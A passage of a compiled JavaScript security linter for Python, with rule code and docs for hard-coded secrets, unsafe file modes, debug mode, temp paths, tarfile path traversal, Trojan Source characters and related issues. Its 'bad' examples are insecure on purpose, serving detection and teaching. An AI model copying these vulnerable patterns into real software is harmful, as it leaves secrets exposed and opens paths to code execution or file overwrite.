      message: "JWTs are signed or verified with a literal key: everyone with the repository can mint valid tokens",
      fix: "Load the signing key at run time (environment, secret manager, key file outside the repository) and rotate the committed one.",
      triggers: [/jwt|jws/i],
      callees: [...new Set([...KEY_ARGUMENT.keys()].map(lastName))],
      docs: {
        why: 'With an HMAC algorithm (HS256 and friends) the key that verifies a JWT also signs one: a literal key lets anyone who reads the code issue tokens for any user with any claims. Public keys (`-----BEGIN PUBLIC KEY-----`) are not secrets and are not reported; stand-ins (`"secret"`, `"change-me"`) are reported at low severity.',
        bad: [
          'import jwt\ndef token_for(user):\n    return jwt.encode({"sub": user.id}, "k3y-0f-th3-r3alm", algorithm="HS256")\n',
          'import jwt\ndef claims(token):\n    return jwt.decode(token, key="k3y-0f-th3-r3alm", algorithms=["HS256"])\n'
        ],
        good: [
          'import jwt, os\ndef token_for(user):\n    return jwt.encode({"sub": user.id}, os.environ["JWT_KEY"], algorithm="HS256")\n',
          'import jwt\nPUBLIC = "-----BEGIN PUBLIC KEY-----\\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1L\\n-----END PUBLIC KEY-----"\ndef claims(token):\n    return jwt.decode(token, "-----BEGIN PUBLIC KEY-----\\nMIIBIjANBg\\n-----END PUBLIC KEY-----", algorithms=["RS256"])\n'
        ],
        references: ["https://pyjwt.readthedocs.io/en/stable/usage.html", "https://cwe.mitre.org/data/definitions/798.html"]
      },
      create(context) {
        return {
          call(node) {
            const position = KEY_ARGUMENT.get(context.module.callName(node) ?? "");
            if (position === void 0)
              return;
            const key = argument(node, "key", position);
            const text = key ? literalString(key) : void 0;
            if (!key || text === void 0 || text.trim() === "" || /PUBLIC KEY|CERTIFICATE/.test(text))
              return;
            context.report({
              node: key,
              ...announcesStandIn(text) ? { severity: "low", message: "JWTs are signed or verified with a stand-in literal key: make sure no deployment uses it" } : {},
              credential: credentialIn(key, "name")
            });
          }
        };
      }
    });
  }
});

// dist/rules/hardcoded-secret/hashids-salted-with-secret-key.js
function readsSecretKey(node) {
  if (node.type === "attribute")
    return /^(?:secret_key|SECRET_KEY)$/.test(node.childForFieldName("attribute")?.text ?? "");
  if (node.type === "subscript") {
    const key = node.childForFieldName("subscript");
    return key !== null && FLASK_SECRET_SETTINGS.has(literalString(key) ?? "");
  }
  if (node.type === "call") {
    const callee = node.childForFieldName("function");
    const first = node.childForFieldName("arguments")?.namedChildren[0];
    return callee?.type === "attribute" && callee.childForFieldName("attribute")?.text === "get" && !!first && FLASK_SECRET_SETTINGS.has(literalString(first) ?? "");
  }
  return false;
}
var hashids_salted_with_secret_key_default;
var init_hashids_salted_with_secret_key = __esm({
  "dist/rules/hardcoded-secret/hashids-salted-with-secret-key.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_flask_secret_targets();
    init_secret_literals();
    hashids_salted_with_secret_key_default = defineRule({
      id: "hashids-salted-with-secret-key",
      aliases: [],
      category: "hardcoded-secret",
      cwe: 200,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "Hashids is salted with the application's secret key: the salt can be recovered from the ids it produces",
      fix: "Give Hashids its own salt (it only obfuscates ids, it does not encrypt them), never the key that signs sessions and tokens.",
      triggers: [["Hashids", "salt"], ["Hashids", "secret_key"], ["Hashids", "SECRET_KEY"]],
      callees: ["Hashids"],
      docs: {
        why: "Hashids is an encoding, not encryption: from a handful of ids it produces, the salt can be worked out. Salting it with SECRET_KEY hands that key to anyone who collects ids from URLs, and with the key they can forge sessions, CSRF tokens and password-reset links.",
        bad: [
          'from hashids import Hashids\nfrom flask import current_app\ndef ids():\n    return Hashids(salt=current_app.config["SECRET_KEY"], min_length=8)\n',
          "from hashids import Hashids\nfrom django.conf import settings\nHASHER = Hashids(settings.SECRET_KEY)\n"
        ],
        good: [
          'import os\nfrom hashids import Hashids\nHASHER = Hashids(salt=os.environ["HASHIDS_SALT"], min_length=8)\n',
          "from hashids import Hashids\nfrom django.conf import settings\nHASHER = Hashids(salt=settings.HASHIDS_SALT)\n"
        ],
        references: ["https://carnage.github.io/2015/08/cryptanalysis-of-hashids", "https://cwe.mitre.org/data/definitions/200.html"]
      },
      create(context) {
        return {
          call(node) {
            if (!(context.module.callName(node) ?? "").endsWith("Hashids"))
              return;
            const salt = argument(node, "salt", 0);
            if (salt && readsSecretKey(salt))
              context.report({ node: salt });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/bad-file-permissions.js
function fileMode(node, module2, depth = 0) {
  if (depth > 8)
    return void 0;
  switch (node.type) {
    case "integer": {
      const value = module2.constant(node);
      return typeof value === "number" ? value : void 0;
    }
    case "parenthesized_expression":
      return node.firstNamedChild ? fileMode(node.firstNamedChild, module2, depth + 1) : void 0;
    case "attribute":
    case "identifier": {
      const name = module2.qualifiedName(node) ?? "";
      const bit = /^(?:stat|os)\.(S_\w+)$/.exec(name)?.[1];
      if (bit && bit in STAT_BITS)
        return STAT_BITS[bit];
      if (node.type !== "identifier")
        return void 0;
      const values = module2.valuesOf(node);
      return values?.length === 1 ? fileMode(values[0], module2, depth + 1) : void 0;
    }
    case "binary_operator": {
      const left = node.childForFieldName("left");
      const right = node.childForFieldName("right");
      const a = left ? fileMode(left, module2, depth + 1) : void 0;
      const b = right ? fileMode(right, module2, depth + 1) : void 0;
      if (a === void 0 || b === void 0)
        return void 0;
      switch (node.childForFieldName("operator")?.type) {
        case "|":
          return a | b;
        case "&":
          return a & b;
        case "^":
          return a ^ b;
        case "+":
          return a + b;
        default:
          return void 0;
      }
    }
    default:
      return void 0;
  }
}
var STAT_BITS, WORLD_WRITABLE, GROUP_WRITABLE, EXECUTABLE_BY_OTHERS, bad_file_permissions_default;
var init_bad_file_permissions = __esm({
  "dist/rules/insecure-config/bad-file-permissions.js"() {
    "use strict";
    init_types();
    init_arguments();
    STAT_BITS = {
      S_ISUID: 2048,
      S_ISGID: 1024,
      S_ISVTX: 512,
      S_IRWXU: 448,
      S_IRUSR: 256,
      S_IWUSR: 128,
      S_IXUSR: 64,
      S_IRWXG: 56,
      S_IRGRP: 32,
      S_IWGRP: 16,
      S_IXGRP: 8,
      S_IRWXO: 7,
      S_IROTH: 4,
      S_IWOTH: 2,
      S_IXOTH: 1,
      S_IREAD: 256,
      S_IWRITE: 128,
      S_IEXEC: 64
    };
    WORLD_WRITABLE = 2;
    GROUP_WRITABLE = 16;
    EXECUTABLE_BY_OTHERS = 9;
    bad_file_permissions_default = defineRule({
      id: "bad-file-permissions",
      aliases: ["B103", "S103", "set_bad_file_permissions"],
      category: "insecure-config",
      cwe: 732,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "chmod gives group or others write or execute permission",
      fix: "Grant the least permission needed: 0o600 for secrets, 0o644 for data, 0o755 only for programs and directories.",
      // The callee's last name must contain `chmod` (`chmod`, `fchmod`, `lchmod`).
      triggers: [/chmod/],
      docs: {
        why: "A world-writable file (o+w) can be replaced or altered by any local user \u2014 a script, a config, a cron job. Modes are evaluated with stat.S_* constants and `|`, `&`, `^` (Bandit reads integer literals only). World-writable is high severity, group-writable medium, and execute bits alone (0o755, the normal mode of programs and directories) are shown only by `--profile audit`, at low \u2014 Bandit reports all of them as medium.",
        bad: ['import os\nos.chmod("/etc/app/config.ini", 0o777)\n', "import os, stat\nos.chmod(path, stat.S_IRWXU | stat.S_IRWXO)\n"],
        good: ['import os\nos.chmod("/etc/app/secret.key", 0o600)\n', 'import os\nos.chmod("/usr/local/bin/tool", 0o755)  # programs: audit profile only\n'],
        references: ["https://cwe.mitre.org/data/definitions/732.html", "https://docs.python.org/3/library/os.html#os.chmod"]
      },
      create(context) {
        const { module: module2 } = context;
        return {
          call(node) {
            const callee = node.childForFieldName("function");
            const last = callee?.type === "attribute" ? callee.childForFieldName("attribute")?.text : callee?.type === "identifier" ? module2.callName(node)?.split(".").pop() : void 0;
            if (!last?.includes("chmod"))
              return;
            const positional = positionalArguments(node);
            const mode = argument(node, "mode", positional.length >= 2 ? 1 : callee?.type === "attribute" && positional.length === 1 && !/^os\./.test(module2.callName(node) ?? "") ? 0 : null);
            const value = mode ? fileMode(mode, module2) : void 0;
            if (value === void 0)
              return;
            const octal = `0o${value.toString(8)}`;
            if (value & WORLD_WRITABLE)
              context.report({ node, severity: "high", message: `chmod makes the file world-writable (mode ${octal})` });
            else if (value & GROUP_WRITABLE)
              context.report({ node, message: `chmod makes the file group-writable (mode ${octal})` });
            else if (value & EXECUTABLE_BY_OTHERS)
              context.report({ node, severity: "low", auditOnly: true, message: `chmod makes the file executable by group or others (mode ${octal})` });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/bind-all-interfaces.js
function isComparedOnly(node) {
  let current = node;
  while (current.parent && ["set", "tuple", "list", "parenthesized_expression", "frozenset"].includes(current.parent.type))
    current = current.parent;
  const parent = current.parent;
  if (parent?.type === "comparison_operator")
    return true;
  return current.type === "set";
}
var bind_all_interfaces_default;
var init_bind_all_interfaces = __esm({
  "dist/rules/insecure-config/bind-all-interfaces.js"() {
    "use strict";
    init_types();
    init_syntax();
    init_arguments();
    init_secret_literals();
    bind_all_interfaces_default = defineRule({
      id: "bind-all-interfaces",
      aliases: ["B104", "S104", "hardcoded_bind_all_interfaces"],
      category: "insecure-config",
      cwe: 605,
      severity: "medium",
      confidence: "medium",
      cost: "fast",
      message: "binding to all network interfaces (0.0.0.0) exposes the service beyond this host",
      fix: "Bind to 127.0.0.1 (or a specific interface) and make a public bind an explicit deployment setting.",
      // The address for the string handler, the method name for `sock.bind(("", port))`.
      triggers: ["0.0.0.0", "bind"],
      callees: ["bind"],
      docs: {
        why: 'A service bound to 0.0.0.0 (or `""` in socket.bind) accepts connections on every interface, including public ones, which is rarely what a development default intends. Comparisons and membership tests against "0.0.0.0" only read the value and are not reported; `sock.bind(("", port))` is (Bandit misses it).',
        bad: ['app.run(host="0.0.0.0")\n', 'import socket\nsock = socket.socket()\nsock.bind(("", 8080))\n'],
        good: ['app.run(host="127.0.0.1")\n', 'def is_wildcard(host):\n    return host == "0.0.0.0"\n'],
        references: ["https://cwe.mitre.org/data/definitions/605.html"]
      },
      create(context) {
        const string = context.module.source.includes("0.0.0.0") ? { string(node) {
          if (!node.text.includes("0.0.0.0") || literalString(node) !== "0.0.0.0" || isDocstring(node) || isComparedOnly(node))
            return;
          context.report({ node });
        } } : {};
        return {
          ...string,
          call(node) {
            const callee = node.childForFieldName("function");
            if (callee?.type !== "attribute" || callee.childForFieldName("attribute")?.text !== "bind")
              return;
            const address = positionalArguments(node)[0];
            const host = address?.type === "tuple" ? address.namedChildren[0] : void 0;
            if (host && literalString(host) === "" && address.namedChildCount === 2)
              context.report({ node: host, message: 'binding to all network interfaces ("" is INADDR_ANY) exposes the service beyond this host' });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/flask-debug-true.js
var flask_debug_true_default;
var init_flask_debug_true = __esm({
  "dist/rules/insecure-config/flask-debug-true.js"() {
    "use strict";
    init_types();
    init_arguments();
    flask_debug_true_default = defineRule({
      id: "flask-debug-true",
      aliases: ["B201", "S201", "flask_debug_true"],
      category: "insecure-config",
      cwe: 94,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "Flask app run with debug=True: the Werkzeug debugger lets anyone who reaches it run Python code",
      fix: "Drive debug mode from the environment (`flask run --debug` in development only) and never pass debug=True in code that can ship.",
      // create() needs an imported name containing `flask` (importsLike), and imported names are written out.
      triggers: [/flask/],
      // Only `<receiver>.run(debug=True)` is reported.
      callees: ["run"],
      docs: {
        why: "The Werkzeug interactive debugger served in debug mode executes arbitrary Python from the browser; exposed beyond localhost it is remote code execution. Like Bandit, any `.run(debug=True)` in a module that imports Flask is reported, except calls on a module that is not Flask (asyncio.run, uvicorn.run\u2026).",
        bad: ["from flask import Flask\napp = Flask(__name__)\napp.run(debug=True)\n"],
        good: ['import os\nfrom flask import Flask\napp = Flask(__name__)\napp.run(debug=os.environ.get("FLASK_DEBUG") == "1")\n', "from flask import Flask\nimport asyncio\nasyncio.run(main(), debug=True)\n"],
        references: ["https://flask.palletsprojects.com/en/stable/debugging/", "https://cwe.mitre.org/data/definitions/94.html"]
      },
      create(context) {
        const { module: module2 } = context;
        if (!module2.importsLike("flask"))
          return {};
        return {
          call(node) {
            const callee = node.childForFieldName("function");
            if (callee?.type !== "attribute" || callee.childForFieldName("attribute")?.text !== "run")
              return;
            if (keywordArgument(node, "debug")?.type !== "true")
              return;
            const receiver = callee.childForFieldName("object");
            if (receiver?.type === "identifier" && !module2.scopeOf(receiver).bindings.has(receiver.text)) {
              const imported = module2.imports.aliases.get(receiver.text);
              if (imported && !imported.toLowerCase().includes("flask"))
                return;
            }
            context.report({ node: keywordArgumentNode(node, "debug") ?? node });
          }
        };
      }
    });
  }
});

// dist/rules/insecure-config/hardcoded-tmp-directory.js
function tmpDirs(option) {
  return option.map((dir) => dir.replace(/\/+$/, ""));
}
function leadingText(node) {
  const first = node.type === "concatenated_string" ? node.firstNamedChild : node;
  if (!first || first.type !== "string")
    return "";
  let text = "";
  for (const child of first.namedChildren) {
    if (child.type === "interpolation")
      return text === "" ? "" : `${text}\uFFFC`;
    if (child.type === "string_content")
      text += child.text;
  }
  return readStringLiteral(first).isBytes ? "" : text;
}
function onlyInspected(node, module2) {
  let current = node;
  while (current.parent && ["tuple", "list", "set", "parenthesized_expression"].includes(current.parent.type))
    current = current.parent;
  const parent = current.parent;
  if (parent?.type === "comparison_operator")
    return true;
  const call = parent?.type === "argument_list" ? parent.parent : parent?.type === "keyword_argument" ? parent.parent?.parent : null;
  if (call?.type !== "call")
    return false;
  if (INSPECTING_METHODS.has(module2.calleeAttribute(call) ?? ""))
    return true;
  return (module2.callName(call) ?? "").startsWith("tempfile.");
}
var hardcoded_tmp_directory_default, INSPECTING_METHODS;
var init_hardcoded_tmp_directory = __esm({
  "dist/rules/insecure-config/hardcoded-tmp-directory.js"() {
    "use strict";
    init_types();
    init_syntax();
    init_literals();
    hardcoded_tmp_directory_default = defineRule({
      id: "hardcoded-tmp-directory",
      aliases: ["B108", "S108", "hardcoded_tmp_directory"],
      category: "insecure-config",
      cwe: 377,
      severity: "medium",
      confidence: "medium",
      cost: "fast",
      message: "hard-coded path in a shared temporary directory: other users can predict, pre-create or swap it",
      fix: "Use the tempfile module (tempfile.mkstemp(), tempfile.TemporaryDirectory()) for private, unpredictable names.",
      options: { tmpDirs: ["/tmp", "/var/tmp", "/dev/shm"] },
      // Every report is of a string whose source text holds a temp dir. A dir spelled like an identifier (`tmp`) would be
      // matched as a whole word, so it goes in as a pattern, which finds it inside longer words (`mytmp/x`) too.
      triggers: (options) => tmpDirs(options.tmpDirs).map((dir) => /^[A-Za-z_]\w*$/.test(dir) ? new RegExp(dir) : dir),
      docs: {
        why: 'Every local user can write to /tmp: a fixed name there can be created first as a symlink to a file the program will then overwrite, or read by others. The path must be the directory or below it (`/tmpfoo` is not, unlike Bandit\'s prefix test); checks such as `path.startswith("/tmp")` and arguments of tempfile functions are not reported.',
        bad: ['with open("/tmp/report.csv", "w") as out:\n    out.write(data)\n', 'def cache(name):\n    return f"/var/tmp/cache/{name}"\n'],
        good: ['import tempfile\nwith tempfile.NamedTemporaryFile("w", suffix=".csv") as out:\n    out.write(data)\n', 'def is_temporary(path):\n    return path.startswith("/tmp/")\n'],
        references: ["https://cwe.mitre.org/data/definitions/377.html", "https://docs.python.org/3/library/tempfile.html"]
      },
      create(context) {
        const dirs = tmpDirs(context.options.tmpDirs);
        const inTmp = (text) => dirs.some((dir) => text === dir || text.startsWith(`${dir}/`));
        return {
          string(node) {
            const raw = node.text;
            if (!dirs.some((dir) => raw.includes(dir)))
              return;
            if (node.parent?.type === "concatenated_string" && node.parent.firstNamedChild?.id !== node.id)
              return;
            const holder = node.parent?.type === "concatenated_string" ? node.parent : node;
            const text = leadingText(holder);
            if (!inTmp(text) || isDocstring(holder) || onlyInspected(holder, context.module))
              return;
            context.report({ node: holder, message: `hard-coded temporary path '${text.split(/\s/)[0]}' in a shared directory` });
          }
        };
      }
    });
    INSPECTING_METHODS = /* @__PURE__ */ new Set(["startswith", "endswith", "index", "find", "count", "removeprefix", "replace", "relative_to", "is_relative_to"]);
  }
});

// dist/rules/missing-timeout/request-without-timeout.js
var VERBS, REQUESTS_CALLS, HTTPX_CALLS, request_without_timeout_default;
var init_request_without_timeout = __esm({
  "dist/rules/missing-timeout/request-without-timeout.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_arguments();
    VERBS = ["get", "options", "head", "post", "put", "patch", "delete", "request"];
    REQUESTS_CALLS = new Set(VERBS.flatMap((verb) => [`requests.${verb}`, `requests.api.${verb}`, `requests.Session().${verb}`, `requests.session().${verb}`]));
    HTTPX_CALLS = new Set([...VERBS, "stream", "Client", "AsyncClient"].map((name) => `httpx.${name}`));
    request_without_timeout_default = defineRule({
      id: "request-without-timeout",
      aliases: ["B113", "S113", "request_without_timeout"],
      category: "missing-timeout",
      cwe: 400,
      severity: "medium",
      confidence: "low",
      cost: "fast",
      message: "HTTP request without a timeout can hang forever",
      fix: "Pass timeout= (seconds, or a (connect, read) tuple): `requests.get(url, timeout=10)`.",
      // Every reported name starts with `requests` or `httpx`, written in an import or as the bare module name.
      triggers: ["requests", "httpx"],
      callees: [...REQUESTS_CALLS, ...HTTPX_CALLS].map(lastName),
      docs: {
        why: "requests waits indefinitely by default: a slow or malicious server can tie up a worker for ever, which is an easy denial of service. httpx has a default timeout, so only an explicit timeout=None is reported. Calls that pass **kwargs are not reported (the timeout may be in them), unlike Bandit.",
        bad: ["import requests\ndef fetch(url):\n    return requests.get(url)\n", "import httpx\nclient = httpx.Client(timeout=None)\n"],
        good: ["import requests\ndef fetch(url):\n    return requests.get(url, timeout=10)\n", "import httpx\ndef fetch(url):\n    return httpx.get(url)\n"],
        references: ["https://requests.readthedocs.io/en/latest/user/advanced/#timeouts", "https://cwe.mitre.org/data/definitions/400.html"]
      },
      create(context) {
        if (!context.module.importsLike("requests") && !context.module.importsLike("httpx"))
          return {};
        return {
          call(node) {
            const name = context.module.callName(node);
            if (!name)
              return;
            const timeout = keywordArgument(node, "timeout");
            if (REQUESTS_CALLS.has(name)) {
              if (!timeout) {
                if (!hasKeywordSplat(node))
                  context.report({ node, message: `${name.replace("()", "")}() without a timeout can hang forever` });
              } else if (timeout.type === "none") {
                context.report({ node, message: `${name.replace("()", "")}() with timeout=None can hang forever` });
              }
            } else if (HTTPX_CALLS.has(name) && timeout?.type === "none") {
              context.report({ node, message: `${name}() with timeout=None can hang forever` });
            }
          }
        };
      }
    });
  }
});

// dist/rules/other/huggingface-unsafe-download.js
var DOWNLOADS, huggingface_unsafe_download_default;
var init_huggingface_unsafe_download = __esm({
  "dist/rules/other/huggingface-unsafe-download.js"() {
    "use strict";
    init_types();
    init_arguments();
    DOWNLOADS = {
      from_pretrained: "transformers",
      load_dataset: "datasets",
      hf_hub_download: "huggingface_hub",
      snapshot_download: "huggingface_hub",
      repository_id: "huggingface_hub"
    };
    huggingface_unsafe_download_default = defineRule({
      id: "huggingface-unsafe-download",
      aliases: ["B615", "huggingface_unsafe_download"],
      category: "other",
      cwe: 494,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "Hugging Face Hub download not pinned to a commit: the repository owner (or whoever takes it over) decides what you load",
      fix: 'Pass revision= with a full commit hash (`revision="5d0f2e8a7c1b..."`); branch and tag names can be moved.',
      // The function's name is the last segment of the call's qualified name, so every spelling writes it out.
      triggers: Object.keys(DOWNLOADS),
      callees: Object.keys(DOWNLOADS),
      docs: {
        why: "Models and datasets are fetched from a mutable repository; `main` or a tag can be repointed to files that run code when loaded (pickled weights, remote code). A commit hash pins the exact content. Local paths and a revision computed at run time are not reported.",
        bad: ['from transformers import AutoModel\nmodel = AutoModel.from_pretrained("org/model")\n', 'from huggingface_hub import hf_hub_download\npath = hf_hub_download(repo_id="org/model", filename="w.bin", revision="main")\n'],
        good: ['from transformers import AutoModel\nmodel = AutoModel.from_pretrained("org/model", revision="5d0f2e8a7c1b4e3f9a6d8c2b1e0f7a3d4c5b6a79")\n', 'from transformers import AutoModel\nmodel = AutoModel.from_pretrained("./checkpoints/model")\n'],
        references: ["https://huggingface.co/docs/huggingface_hub/en/guides/download", "https://cwe.mitre.org/data/definitions/494.html"]
      },
      create(context) {
        const { module: module2 } = context;
        if (!["transformers", "datasets", "huggingface_hub"].some((library) => module2.importsLike(library)))
          return {};
        return {
          call(node) {
            const segments = module2.callName(node)?.split(".") ?? [];
            const library = DOWNLOADS[segments[segments.length - 1] ?? ""];
            if (!library || !segments.includes(library))
              return;
            const revision = keywordArgument(node, "revision") ?? keywordArgument(node, "commit_id");
            if (revision) {
              const value = module2.constant(revision);
              if (typeof value !== "string" || /^[0-9a-f]{7,}$/i.test(value))
                return;
            }
            const source = argument(node, "repo_id", 0) ?? argument(node, "pretrained_model_name_or_path", null) ?? argument(node, "path", null);
            const where = source ? module2.constant(source) : void 0;
            if (typeof where === "string" && /^(?:\.{0,2}\/)/.test(where))
              return;
            context.report({ node, message: `${segments[segments.length - 1]}() from the Hugging Face Hub ${revision ? "pinned to a branch or tag, not a commit" : "without revision="}` });
          }
        };
      }
    });
  }
});

// dist/rules/other/trojan-source.js
var BIDI, MARKS, trojan_source_default;
var init_trojan_source = __esm({
  "dist/rules/other/trojan-source.js"() {
    "use strict";
    init_types();
    BIDI = /[\u202A-\u202E\u2066-\u2069\u200F\u061C]/g;
    MARKS = /[\u200F\u061C]/;
    trojan_source_default = defineRule({
      id: "trojan-source",
      aliases: ["B613", "trojansource"],
      category: "other",
      cwe: 838,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "bidirectional Unicode control character: the code may run differently from how it reads (Trojan Source)",
      fix: 'Remove the control character, or write it as an escape (`"\\u202e"`) inside a string where it is intended.',
      docs: {
        why: "Bidirectional overrides reorder how text is displayed, so a reviewer can see a comment where the interpreter sees code, or an early return that is not there (CVE-2021-42574). One finding per string, comment or token that holds such characters (Bandit stops at the first in the file). A right-to-left mark (U+200F, U+061C) inside a string literal is normal in RTL text and not reported.",
        bad: ['access_level = "user"\nif access_level != "user\u202E \u2066# Check if admin\u2069 \u2066":\n    print("You are an admin.")\n'],
        good: ['marker = "\\u202e"  # written as an escape: visible in review\n'],
        references: ["https://trojansource.codes/", "https://cwe.mitre.org/data/definitions/838.html"]
      },
      create(context) {
        return {
          module(root) {
            const source = context.module.source;
            BIDI.lastIndex = 0;
            const reported = /* @__PURE__ */ new Set();
            for (let match = BIDI.exec(source); match; match = BIDI.exec(source)) {
              const node = root.descendantForIndex(match.index);
              const holder = node.type === "string_content" && node.parent ? node.parent : node;
              if (reported.has(holder.id))
                continue;
              const code = match[0].codePointAt(0).toString(16).toUpperCase().padStart(4, "0");
              if (MARKS.test(match[0]) && holder.type === "string")
                continue;
              reported.add(holder.id);
              context.report({ node: holder, message: `bidirectional control character U+${code}: the code may run differently from how it reads` });
            }
          }
        };
      }
    });
  }
});

// dist/rules/path-traversal/support/archive-members.js
function checksContainment(loop, module2) {
  if (loop.descendantsOfType("call").some((call) => CONTAINMENT_CHECKS.has(module2.calleeAttribute(call) ?? "")))
    return true;
  return loop.descendantsOfType("comparison_operator").some((comparison) => /^["'][^"']*\.\.[^"']*["']\s+(not\s+)?in\b/.test(comparison.text));
}
function isWholeListing(node, module2, listings = TAR_LISTINGS, depth = 0) {
  if (depth > 4)
    return false;
  if (node.type === "call")
    return listings.has(module2.calleeAttribute(node) ?? "") && node.childForFieldName("function")?.type === "attribute";
  if (node.type === "identifier") {
    const values = module2.valuesOf(node);
    return !!values && values.length > 0 && values.every((value) => isWholeListing(value, module2, listings, depth + 1));
  }
  if (node.type === "attribute" && node.childForFieldName("object")?.text === "self") {
    const values = selfAttributeValues(node);
    return values.length > 0 && values.every((value) => isWholeListing(value, module2, listings, depth + 1));
  }
  return false;
}
function selfAttributeValues(attribute) {
  let owner = enclosingFunction(attribute) ?? null;
  while (owner && owner.type !== "class_definition")
    owner = owner.parent;
  if (!owner)
    return [];
  return owner.descendantsOfType("assignment").filter((assignment) => assignment.childForFieldName("left")?.text === attribute.text).map((assignment) => assignment.childForFieldName("right")).filter((value) => !!value);
}
function memberLoop(name, module2, listings = MEMBER_LISTINGS, archive) {
  for (let statement = name.parent; statement && statement.type !== "function_definition"; statement = statement.parent) {
    if (statement.type !== "for_statement")
      continue;
    const left = statement.childForFieldName("left");
    const iterable = statement.childForFieldName("right");
    if (left?.type !== "identifier" || left.text !== name.text || !iterable)
      continue;
    if (archive && iterable.text === archive.text)
      return statement;
    return isWholeListing(iterable, module2, listings) ? statement : void 0;
  }
  return void 0;
}
var MEMBER_LISTINGS, TAR_LISTINGS, CONTAINMENT_CHECKS;
var init_archive_members = __esm({
  "dist/rules/path-traversal/support/archive-members.js"() {
    "use strict";
    init_syntax();
    MEMBER_LISTINGS = /* @__PURE__ */ new Set(["namelist", "infolist", "getmembers", "getnames"]);
    TAR_LISTINGS = /* @__PURE__ */ new Set(["getmembers"]);
    CONTAINMENT_CHECKS = /* @__PURE__ */ new Set([
      "realpath",
      "abspath",
      "commonpath",
      "commonprefix",
      "is_relative_to",
      "relative_to",
      "resolve",
      "startswith",
      "basename",
      "isabs",
      "issym",
      "islnk",
      "isdev",
      "data_filter",
      "tar_filter"
    ]);
  }
});

// dist/rules/path-traversal/tarfile-unsafe-members.js
function hasSafeFilter(call, module2) {
  const filter = keywordArgument(call, "filter");
  if (!filter)
    return false;
  const value = module2.constant(filter);
  return typeof value === "string" ? SAFE_FILTERS.has(value) : SAFE_FILTERS.has(module2.qualifiedName(filter) ?? "");
}
var SAFE_FILTERS, tarfile_unsafe_members_default;
var init_tarfile_unsafe_members = __esm({
  "dist/rules/path-traversal/tarfile-unsafe-members.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_archive_members();
    SAFE_FILTERS = /* @__PURE__ */ new Set(["data", "tar", "tarfile.data_filter", "tarfile.tar_filter"]);
    tarfile_unsafe_members_default = defineRule({
      id: "tarfile-unsafe-members",
      aliases: ["B202", "S202", "tarfile_unsafe_members"],
      category: "path-traversal",
      cwe: 22,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "tarfile extractall() without a safe filter: member names like ../../etc/cron.d/x are written outside the target",
      fix: `Pass filter="data" (Python \u2265 3.12, and 3.8+ security releases), or check every member's path and pass the vetted list as members=.`,
      // create() returns early without `import tarfile`.
      triggers: ["tarfile"],
      docs: {
        why: 'Tar archives can contain absolute paths, `..` components and links; extractall() writes them where they point (CVE-2007-4559), and so does extract() called on every member in a loop that checks none of them. members= holding the whole list (`members = tar.getmembers()`, in a variable or a `self.` attribute) is no check; another list may be vetted (medium, or low when it comes from a call); with filter="data" or "tar" Python itself refuses them.',
        bad: [
          "import tarfile\ndef unpack(path, dest):\n    with tarfile.open(path) as archive:\n        archive.extractall(dest)\n",
          "import tarfile\ndef unpack(path, dest):\n    with tarfile.open(path) as archive:\n        for member in archive.getmembers():\n            archive.extract(member, dest)\n"
        ],
        good: ['import tarfile\ndef unpack(path, dest):\n    with tarfile.open(path) as archive:\n        archive.extractall(dest, filter="data")\n'],
        references: ["https://docs.python.org/3/library/tarfile.html#tarfile-extraction-filter", "https://peps.python.org/pep-0706/"]
      },
      create(context) {
        const { module: module2 } = context;
        if (!module2.importsModule("tarfile"))
          return {};
        function reportMemberLoop(call, archive) {
          const member = argument(call, "member", 0);
          if (member?.type !== "identifier")
            return;
          const loop = memberLoop(member, module2, TAR_LISTINGS, archive);
          if (!loop || checksContainment(loop, module2))
            return;
          context.report({ node: call, confidence: "medium", message: `tarfile extract() of every member in a loop, none checked: a member named ../\u2026 or a link is written outside the target` });
        }
        return {
          call(node) {
            const callee = node.childForFieldName("function");
            const method = callee?.type === "attribute" ? callee.childForFieldName("attribute")?.text ?? "" : "";
            if (!method.includes("extract"))
              return;
            const name = module2.callName(node) ?? "";
            if (/^(?:zipfile|shutil)\./.test(name) || hasSafeFilter(node, module2))
              return;
            if (method === "extract") {
              reportMemberLoop(node, callee.childForFieldName("object"));
              return;
            }
            if (!method.includes("extractall"))
              return;
            const members3 = keywordArgument(node, "members");
            if (!members3 || isWholeListing(members3, module2)) {
              context.report({ node, ...members3 ? { message: "tarfile extractall() with members= holding every member unchecked (getmembers()): names like ../../etc/cron.d/x are written outside the target" } : {} });
            } else if (members3.type === "call") {
              context.report({ node, severity: "low", confidence: "low", message: "tarfile extractall() with members= from a function: make sure it rejects absolute paths, `..` and links" });
            } else {
              context.report({ node, severity: "medium", confidence: "medium", message: "tarfile extractall() with members=: make sure the list excludes absolute paths, `..` and links" });
            }
          }
        };
      }
    });
  }
});

// dist/rules/sql-injection/django-extra.js
function sqlFragments(call, module2) {
  if (module2.calleeAttribute(call) !== "extra" || call.childForFieldName("function")?.type !== "attribute")
    return void 0;
  return [argument(call, "select", 0), argument(call, "where", 1), argument(call, "tables", 3), argument(call, "order_by", 4)].filter((fragment) => fragment !== void 0);
}
var django_extra_default;
var init_django_extra = __esm({
  "dist/rules/sql-injection/django-extra.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    django_extra_default = taintRule({
      id: "django-extra",
      aliases: ["B610", "S610", "django_extra_used"],
      category: "sql-injection",
      cwe: 89,
      severity: "medium",
      confidence: "medium",
      message: "QuerySet.extra() with SQL built at run time",
      fix: "Use annotate()/filter() with F() and Func() expressions, or keep extra() SQL constant and pass values through params=.",
      triggers: ["extra"],
      callees: ["extra"],
      sinkClass: "sql",
      sinks: {},
      findSink: sqlFragments,
      levels: SINK_LEVELS,
      describe: (source) => `QuerySet.extra() with SQL built from ${source}: the fragments are pasted into the query unescaped`,
      docs: {
